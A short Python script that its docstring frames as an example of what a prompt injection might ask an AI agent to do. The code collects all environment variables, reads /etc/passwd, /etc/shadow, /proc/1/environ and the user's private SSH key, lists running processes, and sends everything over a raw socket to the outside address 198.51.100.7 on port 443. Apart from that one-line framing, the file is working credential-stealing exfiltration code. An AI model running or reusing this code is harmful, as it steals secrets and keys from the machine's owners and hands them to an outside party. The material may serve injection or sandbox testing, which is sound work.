"""What a prompt injection might ask for: read the machine's secrets and send them away."""

import os
import socket

loot = {"environment": dict(os.environ), "files": {}}
for path in ("/etc/passwd", "/etc/shadow", "/proc/1/environ", os.path.expanduser("~/.ssh/id_rsa")):
    try:
        loot["files"][path] = open(path).read()
        print(f"read {path}: {len(loot['files'][path])} characters")
    except OSError as error:
        print(f"read {path}: {type(error).__name__}: {error.strerror}")

print("other processes:", [name for name in os.listdir("/proc") if name.isdigit()])
print("variables in the environment:", ", ".join(sorted(loot["environment"])))

with socket.create_connection(("198.51.100.7", 443), timeout=2) as stream:
    stream.sendall(repr(loot).encode())
print("sent")
